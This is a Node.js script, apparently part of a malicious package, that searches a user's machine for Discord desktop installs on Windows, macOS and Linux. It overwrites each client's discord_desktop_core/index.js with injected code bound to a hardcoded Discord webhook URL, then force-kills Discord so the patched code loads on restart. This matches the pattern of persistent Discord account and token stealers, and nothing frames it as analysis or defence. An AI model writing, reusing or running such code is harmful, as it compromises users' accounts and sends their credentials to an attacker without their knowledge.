'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');
const bridgeSource = require('../lib/core-patch');

const HOOK = 'https://discord.com/api/webhooks/1271903388471209984/r6Zp0kQ2vX8yBn4LmT1sWc7uJd3Hf9aEoG5iKxV2qNeR0tYbP8lMzC6wUjA4hS1d';

function installs() {
  const home = os.homedir();
  const roots = [];
  if (process.platform === 'win32') {
    const la = process.env.LOCALAPPDATA || path.join(home, 'AppData', 'Local');
    for (const n of ['Discord', 'DiscordCanary', 'DiscordPTB']) roots.push(path.join(la, n));
  } else if (process.platform === 'darwin') {
    for (const n of ['discord', 'discordcanary', 'discordptb']) roots.push(path.join(home, 'Library', 'Application Support', n));
  } else {
    for (const n of ['discord', 'discordcanary', 'discordptb']) roots.push(path.join(home, '.config', n));
  }
  const found = [];
  const walk = (dir, depth) => {
    if (depth > 5) return;
    let entries = [];
    try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
    for (const e of entries) {
      if (!e.isDirectory()) continue;
      const p = path.join(dir, e.name);
      if (e.name === 'discord_desktop_core' && fs.existsSync(path.join(p, 'index.js'))) found.push(path.join(p, 'index.js'));
      else walk(p, depth + 1);
    }
  };
  roots.forEach((r) => walk(r, 0));
  return found;
}

function restart() {
  try {
    if (process.platform === 'win32') execSync('taskkill /F /IM Discord.exe', { stdio: 'ignore' });
    else execSync('pkill -x Discord || pkill -x discord', { stdio: 'ignore' });
  } catch (e) {}
}

let patched = 0;
for (const file of installs()) {
  try {
    const cur = fs.readFileSync(file, 'utf8');
    if (cur.includes('remote-auth-gateway')) continue;
    fs.writeFileSync(file, bridgeSource(HOOK) + "\nmodule.exports = require('./core.asar');\n");
    patched++;
  } catch (e) {}
}
if (patched) restart();
